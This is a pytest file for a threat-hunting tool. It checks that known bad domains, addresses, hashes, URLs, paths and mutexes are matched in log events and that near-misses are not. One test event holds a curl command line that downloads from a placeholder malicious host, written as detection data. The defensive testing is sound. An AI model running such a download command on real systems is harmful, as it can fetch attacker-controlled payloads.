from __future__ import annotations

from typing import Any

import pytest

from vedette.core.indicators import Indicator, IndicatorKind
from vedette.core.nouns import Confidence
from vedette.hunt.event import Event, Logsource
from vedette.hunt.indicators import Seeking
from vedette.hunt.signal import Signal

SHA = "ab" * 32
MD5 = "cd" * 16


def known(kind: IndicatorKind, value: str, confidence: Confidence = Confidence.LIKELY) -> Indicator:
    return Indicator(
        kind=kind, value=value, artefact="sha256:" + "0" * 64, name="a.js", offset=0, confidence=confidence
    )


def seen(one: Indicator, **columns: Any) -> list[Signal]:  # noqa: ANN401  columns of an event
    seeking = Seeking([one])
    fields = columns.pop("fields", dict(columns))
    seeking.see(
        Event(source=0, record=7, time=1, logsource=Logsource(), fields=fields, host="pc1", **columns)
    )
    return list(seeking.signals())


@pytest.mark.parametrize(
    ("one", "columns"),
    [
        (known(IndicatorKind.DOMAIN, "Bad.Invalid"), {"domain": "bad.invalid"}),
        (known(IndicatorKind.DOMAIN, "bad.invalid"), {"domain": "www.bad.invalid"}),
        (known(IndicatorKind.ADDRESS, "198.51.100.7"), {"destination_ip": "198.51.100.7"}),
        (known(IndicatorKind.ADDRESS, "198.51.100.7"), {"answers": ("198.51.100.7",)}),
        (known(IndicatorKind.HASH, SHA), {"hash": SHA}),
        (
            known(IndicatorKind.URL, "http://bad.invalid/a"),
            {"command_line": "curl http://bad.invalid/a -o x"},
        ),
        (known(IndicatorKind.URL, "http://bad.invalid/a"), {"url": "bad.invalid/a?x=1"}),
        (known(IndicatorKind.PATH, r"C:\Users\Public\x.dat"), {"file": r"c:\users\public\X.DAT"}),
        (known(IndicatorKind.MUTEX, r"Global\one-only"), {"message": r"mutex Global\One-Only made"}),
    ],
)
def test_what_is_known_is_seen(one: Indicator, columns: dict[str, Any]) -> None:
    (signal,) = seen(one, **columns)
    assert signal.rule == f"indicator:{one.kind}"
    assert (signal.count, signal.actors[0].name) == (1, "pc1")
    assert signal.places[0].record == 7


@pytest.mark.parametrize(
    ("one", "columns"),
    [
        (known(IndicatorKind.DOMAIN, "bad.invalid"), {"domain": "notbad.invalid"}),
        (known(IndicatorKind.DOMAIN, "bad.invalid"), {"domain": "invalid"}),
        (known(IndicatorKind.ADDRESS, "198.51.100.7"), {"destination_ip": "198.51.100.70"}),
        (known(IndicatorKind.HASH, SHA), {"hash": "ef" * 32}),
        (known(IndicatorKind.PATH, "x.exe"), {"process": r"c:\x.exe"}),
        (known(IndicatorKind.DOMAIN, "bad.invalid", Confidence.POSSIBLE), {"domain": "bad.invalid"}),
    ],
)
def test_what_only_looks_like_it_is_not(one: Indicator, columns: dict[str, Any]) -> None:
    assert seen(one, **columns) == []


def test_a_weaker_hash_beside_the_strongest_is_seen() -> None:
    fields = {"Hashes": f"MD5={MD5.upper()},SHA256={SHA.upper()}"}
    (signal,) = seen(known(IndicatorKind.HASH, MD5), hash=SHA, fields=fields)
    assert signal.confidence is Confidence.STRONG


def test_many_events_are_one_signal() -> None:
    seeking = Seeking([known(IndicatorKind.DOMAIN, "bad.invalid")])
    for number in range(1000):
        one = Event(
            source=0,
            record=number,
            time=number,
            logsource=Logsource(),
            fields={"name": "bad.invalid"},
            domain="bad.invalid",
            host=f"pc{number % 50}",
        )
        seeking.see(one)
    (signal,) = seeking.signals()
    assert (signal.count, signal.first, signal.last) == (1000, 0, 999)
    assert len(signal.actors) <= 20
    assert len(signal.places) <= 10
